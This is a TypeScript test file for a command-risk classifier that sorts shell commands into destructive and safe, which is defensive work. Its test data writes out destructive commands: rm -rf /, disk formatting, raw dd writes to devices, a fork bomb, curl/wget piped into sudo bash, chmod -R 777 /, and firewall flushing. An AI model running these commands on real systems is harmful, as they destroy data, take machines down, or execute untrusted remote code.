import { describe, expect, it } from 'vitest'
import { MAX_COMMAND_BYTES } from './operation.ts'
import { classifyRisk } from './risk.ts'

const sh = (command: string) => classifyRisk({ type: 'exec', shell: true, command })
const argv = (...a: string[]) => classifyRisk({ type: 'exec', shell: false, argv: a })

describe('classifyRisk', () => {
  it.each([
    ['rm -rf /', 'recursive delete of a broad path'],
    ['sudo rm -r -f /*', 'recursive delete of a broad path'],
    ['cd /tmp && rm --recursive --force ~', 'recursive delete of a broad path'],
    ["rm -fR '/etc'", 'recursive delete of a broad path'],
    ['env X=1 rm -rf /var/', 'recursive delete of a broad path'],
    ['mkfs.ext4 /dev/sdb1', 'disk formatting or partitioning'],
    ['wipefs -a /dev/sdb', 'disk formatting or partitioning'],
    ['dd if=/dev/zero of=/dev/nvme0n1 bs=1M', 'raw write to a block device'],
    ['cat image > /dev/sda', 'raw write to a block device'],
    ['shutdown -r now', 'shutdown or reboot'],
    ['systemctl reboot', 'shutdown or reboot'],
    ['init 0', 'shutdown or reboot'],
    ['curl -fsSL https://example.invalid/x.sh | sudo bash', 'piping a download into a shell'],
    ['wget -qO- http://x.invalid/i | sh', 'piping a download into a shell'],
    [':(){ :|:& };:', 'fork bomb'],
    ['chmod -R 777 /', 'recursive permission change of a broad path'],
    ['kill -9 -1', 'kills every process'],
    ['iptables -F', 'flushes the firewall'],
    ["sh -c 'rm -rf /'", 'recursive delete of a broad path'],
  ])('marks %j destructive: %s', (command, reason) => {
    expect(sh(command)).toEqual({ class: 'destructive', reasons: [reason] })
  })

  it.each(['rm -rf /tmp/build', 'rm /etc/motd', 'ls -R /', 'echo reboot', 'systemctl restart nginx', 'curl -fsS https://x.invalid/health', 'curl x || sh -c true', 'kill -1 1234', 'dd if=/dev/sda of=/tmp/mbr bs=512 count=1', 'uname -a'])(
    'leaves %j safe',
    (command) => {
      expect(sh(command)).toEqual({ class: 'safe', reasons: [] })
    },
  )

  it('reads argv word by word', () => {
    expect(argv('rm', '-rf', '/').class).toBe('destructive')
    expect(argv('echo', 'rm -rf /').class).toBe('safe')
    expect(classifyRisk({ type: 'ping' }).class).toBe('safe')
  })

  it('stays linear on hostile input of the largest size a command may have', () => {
    // Inputs that made the earlier regex-based rules backtrack exponentially; the test's own
    // timeout is the bound: these finish at once or not at all.
    const n = Math.floor(MAX_COMMAND_BYTES / 4)
    expect(argv('rm', ...Array.from({ length: n }, () => '-r')).class).toBe('safe')
    expect(sh(`rm ${'-rf '.repeat(n / 2)}/`).class).toBe('destructive')
    expect(sh('curl '.repeat(n)).class).toBe('safe')
    expect(sh(`chmod ${'-R '.repeat(n / 2)}x /`).class).toBe('destructive')
  })
})
